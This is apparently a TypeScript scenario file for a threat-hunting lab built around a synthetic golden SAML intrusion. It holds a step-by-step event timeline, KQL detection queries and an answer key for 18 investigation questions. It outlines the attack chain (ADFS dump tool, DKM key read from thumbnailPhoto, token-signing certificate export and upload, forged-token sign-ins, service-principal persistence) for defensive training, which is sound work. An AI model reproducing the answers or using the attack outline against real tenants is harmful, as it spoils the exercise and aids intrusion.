        ResourceId: guidOf('res:Microsoft Graph'),
        ResourceTenantId: TENANT.tenantId,
        IPAddress: ATTACKER.ip,
        Country: ATTACKER.location.countryOrRegion,
        State: ATTACKER.location.state,
        City: ATTACKER.location.city,
        Latitude: String(ATTACKER.location.lat),
        Longitude: String(ATTACKER.location.lon),
        RequestId: guidOf(`golden-saml:spn:req:${i}`),
        IsConfidentialClient: true,
      });
    }
  },
};

const step = (at: string, table: string, what: string, timeColumn?: string): ScriptStep => ({ at, table, what, ...(timeColumn ? { timeColumn } : {}) });
const AD = ADFS.name;
const CORR = FORGED[0].correlationId!;

export const golden: Scenario = {
  id: 'golden-saml',
  title: 'Tokens nobody issued',
  difficulty: 'advanced',
  description:
    'Synthetic incident: stolen admin account -> RDP to the AD FS server -> AD FS dumping tool reads the configuration database and the DKM key -> token-signing certificate exported -> forged SAML tokens open the CFO mailbox -> service principal credential added. All identifiers are synthetic.',
  briefing: 'docs/scenarios/golden-saml.md',
  now: NOW,
  cast: {
    tenant: TENANT,
    users: [DANA, CHRIS],
    devices: [IT, CFO, ADFS],
    files: [TOOL].map((f) => ({ name: f.name, folder: LIB, size: f.size, md5: f.md5, sha1: f.sha1, sha256: f.sha256, product: f.product, description: f.description, originalName: f.original })),
    ips: [
      { ip: VPN_IP, role: 'VPN address of the stolen admin session' },
      { ip: STAGING.ip, role: `tool download (${STAGING.url})` },
      { ip: DROP.ip, role: `certificate upload (${DROP.url})` },
      { ip: ATTACKER.ip, role: 'forged-token sign-ins and service-principal sign-ins (hosting provider)' },
    ],
  },
  script: [
    step(Z1('10:02:40.870'), 'IdentityLogonEvents', 'Kerberos ticket for the AD FS server from the VPN address'),
    step(Z1('10:02:41.310'), 'DeviceLogonEvents', `RDP logon of ${ADMIN.name} on ${AD}`),
    step(Z1('10:04:05.220'), 'DeviceProcessEvents', 'PowerShell downloads the tool'),
    step(Z1('10:04:09.117'), 'DeviceFileEvents', 'fsdiag.exe written'),
    step(Z1('10:05:30.004'), 'DeviceProcessEvents', 'fsdiag.exe (ADFSDump) started'),
    step(Z1('10:05:30.912'), 'DeviceEvents', 'named pipe of the AD FS configuration database opened'),
    step(Z1('10:05:31.606'), 'DeviceEvents', 'LDAP search for the DKM key'),
    step(Z1('10:05:31.640'), 'IdentityQueryEvents', 'DKM container queried on the DC'),
    step(Z1('10:05:31.652'), 'SecurityEvent', 'the DC audits the read of the DKM key (4662)', 'TimeGenerated'),
    step(Z1('10:05:52'), 'AlertInfo', 'alert G1 (High)'),
    step(Z1('10:06:02.470'), 'DeviceFileEvents', 'certificate written to a .pfx'),
    step(Z1('10:07:15.021'), 'DeviceNetworkEvents', 'certificate uploaded'),
    step(Z1('10:09:40.233'), 'DeviceFileEvents', 'tool and certificate deleted'),
    step(Z1('11:02:00'), 'AlertStatus', 'alert G1 closed as a false positive'),
    step(Z1('21:14:05'), 'SigninLogs', "first forged-token sign-in (Chris's mailbox)", 'TimeGenerated'),
    step(Z1('21:14:05'), 'AADUserRiskEvents', 'Identity Protection: unfamiliar sign-in properties (medium)', 'ActivityDateTime'),
    step(Z1('21:19:48'), 'CloudAppEvents', 'inbox rule created'),
    step(Z2('02:03:22'), 'AADSignInEventsBeta', "forged-token sign-in as Dana to Azure management"),
    step(Z2('02:07:31'), 'AuditLogs', 'credential added to a service principal', 'ActivityDateTime'),
    step(Z2('02:21:09'), 'AADSpnSignInEventsBeta', 'the service principal signs in from the intruder address'),
    step(`${DAY3}T13:21:15Z`, 'MachineActions', 'investigation package collected from the AD FS server'),
  ],
  policies: POLICIES_GS,
  questions: [
    {
      id: '1',
      text: `Which account logged on to ${AD} over Remote Desktop on ${DAY1}? (account name)`,
      answerType: 'text',
      answer: ADMIN.name,
      kql: `DeviceLogonEvents\n| where DeviceName == "${AD}" and LogonType == "RemoteInteractive"\n| distinct AccountName`,
      hints: ['Logons are in DeviceLogonEvents; Remote Desktop logons have LogonType RemoteInteractive.'],
    },
    {
      id: '2',
      text: 'From which IP address did that Remote Desktop logon come?',
      answerType: 'text',
      answer: VPN_IP,
      kql: `DeviceLogonEvents\n| where DeviceName == "${AD}" and LogonType == "RemoteInteractive"\n| distinct RemoteIP`,
      hints: ['The logon row carries the source in RemoteIP.', 'Defender for Identity saw the Kerberos ticket for the same server (IdentityLogonEvents).'],
    },
    {
      id: '3',
      text: `A tool was downloaded to ${AD} under a harmless-looking name. What is its original file name (from its version information)?`,
      answerType: 'text',
      answer: TOOL.original,
      kql: `DeviceProcessEvents\n| where DeviceName == "${AD}" and FolderPath startswith @"C:\\Users\\Public\\"\n| distinct ProcessVersionInfoOriginalFileName`,
      hints: ['Follow the PowerShell started in the RDP session: what did it write, and what ran from there?', 'DeviceProcessEvents has ProcessVersionInfoOriginalFileName.'],
    },
    {
      id: '4',
      text: 'What is the SHA256 of that tool?',
      answerType: 'hash',
      answer: TOOL.sha256,
      kql: `DeviceFileEvents\n| where DeviceName == "${AD}" and ActionType == "FileCreated" and FileName =~ "${TOOL.name}"\n| distinct SHA256`,
      hints: ['The download is a FileCreated row in DeviceFileEvents with its hashes.'],
      view: `#/file/${TOOL.sha1}`,
    },
    {
      id: '5',
      text: "Apart from the AD FS service itself, which process opened the named pipe of the AD FS configuration database (Windows Internal Database)? (file name)",
      answerType: 'text',
      answer: TOOL.name,
      kql: `DeviceEvents\n| where DeviceName == "${AD}" and ActionType == "NamedPipeEvent"\n| where tostring(AdditionalFields.PipeName) has "WID"\n| where InitiatingProcessFileName !~ "Microsoft.IdentityServer.ServiceHost.exe"\n| distinct InitiatingProcessFileName`,
      hints: ['Named pipe activity is in DeviceEvents with ActionType NamedPipeEvent; the pipe name is in AdditionalFields.', 'The WID pipe name contains MICROSOFT##WID.'],
    },
    {
      id: '6',
      text: 'The DKM key that protects the token-signing certificate is stored in an attribute of a contact object under CN=ADFS. Which attribute did the tool request over LDAP?',
      answerType: 'text',
      answer: 'thumbnailphoto',
      kql: `DeviceEvents\n| where DeviceName == "${AD}" and ActionType == "LdapSearch"\n| where tostring(AdditionalFields.DistinguishedName) has "CN=ADFS,CN=Microsoft,CN=Program Data"\n| mv-expand Attribute = AdditionalFields.AttributeList\n| distinct tostring(Attribute)`,
      hints: ['LDAP searches made by a process are DeviceEvents rows with ActionType LdapSearch.', 'AdditionalFields holds SearchFilter, DistinguishedName and AttributeList; Defender for Identity saw the same query on the DC (IdentityQueryEvents).'],
    },
    {
      id: '7',
      text: 'Which file received the exported token-signing certificate? (file name)',
      answerType: 'text',
      answer: PFX,
      kql: `DeviceFileEvents\n| where DeviceName == "${AD}" and ActionType == "FileCreated" and FileName endswith ".pfx"\n| distinct FileName`,
      hints: ['A certificate with its private key is usually a .pfx file.'],
    },
    {
      id: '8',
      text: 'To which domain was the certificate file uploaded?',
      answerType: 'text',
      answer: DROP.url,
      kql: `DeviceNetworkEvents\n| where DeviceName == "${AD}" and InitiatingProcessCommandLine has ".pfx"\n| distinct RemoteUrl`,
      hints: ['Find the process whose command line names the .pfx, then its connections.'],
    },
    {
      id: '9',
      text: 'Federated sign-ins normally follow an AD FS token issuance (event 1200) for the same user a few seconds earlier. Which users signed in with federated tokens that AD FS never issued? (UPNs)',
      answerType: 'list',
      answer: [CHRIS.upn, DANA.upn],
      kql: `let issued = AdfsEvents
| where EventId == 1200 and RelyingParty == "urn:federation:MicrosoftOnline"
| extend AccountName = tolower(tostring(split(UserId, "\\\\")[-1]))
| join kind=inner (IdentityInfo | distinct AccountName = tolower(AccountName), AccountUpn = tolower(AccountUpn)) on AccountName
| project IssuedAt = TimeCreated, AccountUpn;
let issuedUpn = AdfsEvents
| where EventId == 1200 and RelyingParty == "urn:federation:MicrosoftOnline" and UserId contains "@"
| project IssuedAt = TimeCreated, AccountUpn = tolower(UserId);
SigninLogs
| where TokenIssuerType == "ADFederationServices"
| project TimeGenerated, CorrelationId, AccountUpn = tolower(UserPrincipalName)
| join kind=leftouter (union issued, issuedUpn) on AccountUpn
| summarize Matched = countif(IssuedAt between ((TimeGenerated - 5m) .. TimeGenerated)) by CorrelationId, AccountUpn
| where Matched == 0
| distinct AccountUpn`,
      hints: ['SigninLogs marks federated tokens with TokenIssuerType ADFederationServices; AdfsEvents 1200 are the issuances.', 'AD FS names intranet users CORP\\account and extranet users by UPN: IdentityInfo maps account names to UPNs.', 'Join each federated sign-in with the issuances of its user and keep the sign-ins without one in the preceding minutes.'],
      view: `#/signin/${CORR}`,
    },
    {
      id: '10',
      text: 'When was the first sign-in with a forged token? (UTC time)',
      answerType: 'time',
      answer: Z1('21:14:05'),
      kql: `SigninLogs\n| where TokenIssuerType == "ADFederationServices" and IPAddress == "${ATTACKER.ip}"\n| summarize min(TimeGenerated)`,
      hints: ['Start from the forged sign-ins you found and look at their address and user agent.'],
    },
    {
      id: '11',
      text: 'From which IP address were the forged tokens used?',
      answerType: 'text',
      answer: ATTACKER.ip,
      kql: `AADSignInEventsBeta\n| where CorrelationId == "${CORR}"\n| distinct IPAddress`,
      hints: ['The sign-in rows carry IPAddress, Country and UserAgent; compare them with the user\'s usual sign-ins.'],
    },
    {
      id: '12',
      text: "A rule was added to Chris Novak's mailbox. Into which folder does it move matching mail?",
      answerType: 'text',
      answer: RULE.folder,
      kql: `CloudAppEvents\n| where ActionType == "New-InboxRule" and AccountObjectId == "${CHRIS.objectId}"\n| mv-expand P = RawEventData.Parameters\n| where tostring(P.Name) == "MoveToFolder"\n| distinct tostring(P.Value)`,
      hints: ['Mailbox changes are CloudAppEvents rows; the rule\'s parameters are in RawEventData.Parameters.'],
    },
    {
      id: '13',
      text: "How many MailItemsAccessed events did the intruder produce in Chris Novak's mailbox?",
      answerType: 'number',
      answer: MAIL_READS,
      kql: `CloudAppEvents\n| where ActionType == "MailItemsAccessed" and AccountObjectId == "${CHRIS.objectId}" and IPAddress == "${ATTACKER.ip}"\n| count`,
      hints: ['CloudAppEvents has IPAddress: keep the intruder\'s address.'],
    },
    {
      id: '14',
      text: 'For persistence, a credential was added to an application\'s service principal. Which one? (display name)',
      answerType: 'text',
      answer: HR_SYNC.name,
      kql: `AuditLogs\n| where ActivityDisplayName == "Add service principal credentials"\n| extend Target = tostring(TargetResources[0].displayName)\n| distinct Target`,
      hints: ['Entra directory changes are in AuditLogs; TargetResources names what changed and InitiatedBy who did it.'],
    },
    {
      id: '15',
      text: "How many times did that service principal sign in from the intruder's address?",
      answerType: 'number',
      answer: SP_TIMES.length,
      kql: `AADSpnSignInEventsBeta\n| where ServicePrincipalName == "${HR_SYNC.name}" and IPAddress == "${ATTACKER.ip}"\n| count`,
      hints: ['Service-principal sign-ins are in AADSpnSignInEventsBeta.'],
    },
    {
      id: '16',
      text: `Which alert raised ${AD}'s risk to High? (AlertId)`,
      answerType: 'text',
      answer: ALERTS[0].alertId,
      kql: `DeviceRiskEvents\n| where DeviceName == "${AD}" and RiskScore == "High"\n| project TriggerAlertId`,
      hints: ['DeviceRiskEvents records each risk change and the alert that triggered it.', 'AlertStatus shows what triage concluded about it.'],
      view: `#/alert/${ALERTS[0].alertId}`,
    },
    {
      id: '17',
      text: 'The domain controller audits reads of the DKM key (event 4662 on the contact object under CN=ADFS). Which accounts read it during the four days? (account names)',
      answerType: 'list',
      answer: [GMSA.name, ADMIN.name],
      kql: `SecurityEvent\n| where EventID == 4662 and ObjectServer == "DS"\n| where Properties has "${THUMBNAIL_PHOTO}"\n| distinct SubjectUserName`,
      hints: ['The Security log of the domain controller is in SecurityEvent; 4662 is "An operation was performed on an object".', 'The DKM key is kept in the thumbnailPhoto attribute ({8d3bca50-1d7e-11d0-a081-00aa006c33ed}); look for it in Properties.', 'One reader is expected: the account the AD FS service runs as.'],
    },
    {
      id: '18',
      text: 'Entra ID Identity Protection flagged some of the forged sign-ins in real time. Which risk detection type did it raise, and at what level? (two values: type, level)',
      answerType: 'list',
      answer: ['unfamiliarFeatures', 'medium'],
      answerFrom: 'row',
      kql: `AADUserRiskEvents\n| where IpAddress == "${ATTACKER.ip}"\n| distinct RiskEventType, RiskLevel`,
      hints: ['Identity Protection writes its detections to AADUserRiskEvents; SigninLogs shows the risk on each sign-in (RiskLevelDuringSignIn, RiskEventTypes_V2).', 'Filter on the address the forged tokens came from.'],
      view: `#/signin/${CORR}`,
    },
  ],
  generate: (opts) => generate({ ...opts, policies: opts.policies ?? POLICIES_GS }, incident),
};

